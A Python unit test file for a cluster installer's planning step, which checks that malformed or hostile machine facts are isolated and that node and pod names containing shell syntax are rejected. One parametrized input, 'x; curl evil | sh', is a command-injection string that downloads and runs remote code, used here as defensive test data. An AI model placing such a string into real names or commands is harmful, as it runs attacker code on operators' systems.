"""hostile-facts: the verbs go on for the others, and name the machine whose answer cannot be used."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from pai_install.errors import ExitCode
from pai_install.plan.observed import parse_machines
from tests.unit.cli.stub_environment import World, facts, run, write_site
from tests.unit.runs import done, event, phase

ODD: list[Any] = [
    {"pai": {"hostname": "one", "services": {}}},
    {"pai": {"hostname": "one", "cluster": 5, "docker": {"containers": "many"}}},
    {"pai": {"hostname": "one", "certificates": [{"path": "/x", "expires": 10**18}]}},
    {"pai": {"hostname": "x" * 5000}},
    {"pai": []}, {"pai": None}, {}, [], "x", 5,
]  # fmt: skip


@pytest.mark.parametrize("answer", ODD)
def test_hostile_facts_leave_the_others_their_plan(
    tmp_path: Path, in_world: Callable[[World], World], capsys: pytest.CaptureFixture[str], answer: Any
) -> None:
    answers = [event("ok", name, "Observe", ansible_facts=facts(name)) for name in ("master", "two")]
    odd = event("ok", "one", "Observe", ansible_facts=answer)
    world = in_world(
        World((phase("base", "two"),), {"observe.yml": done(*answers, odd), "base.yml": done(event("changed", "two"))})
    )
    folder = write_site(tmp_path / "site")
    assert run(["plan", "--site", str(folder)]) == ExitCode.UNREACHABLE
    asked = next(words for words in world.asked if "unreachable" in words)
    assert asked["observed"] == ["master", "two"]
    assert list(asked["unreachable"]) == ["one"]
    assert "one" in capsys.readouterr().out


def test_hostile_facts_of_a_worker_say_nothing_of_the_cluster() -> None:
    """Its nodes would be those that machine ids are compared with."""
    ghost = {"nodes": [{"name": "ghost", "machine_id": "id-of-master"}]}
    results = {name: {"ansible_facts": {"pai": {"hostname": name, "cluster": ghost}}} for name in ("master", "one")}
    machines, unusable = parse_machines(results, {"master"})
    assert machines["master"].cluster is not None
    assert machines["one"].cluster is None
    assert unusable == {}


@pytest.mark.parametrize("name", ["x; curl evil | sh", "a b", "A", "-x", "a\nb", ""])
def test_hostile_facts_have_no_node_whose_name_is_a_command(name: str) -> None:
    """Names stand in commands that people are told to run."""
    for cluster in (
        {"nodes": [{"name": name}]},
        {"pods": [{"name": name}]},
        {"pods": [{"name": "a", "namespace": "; x"}]},
    ):
        result = {"ansible_facts": {"pai": {"hostname": "master", "cluster": cluster}}}
        assert parse_machines({"master": result}, {"master"})[0] == {}
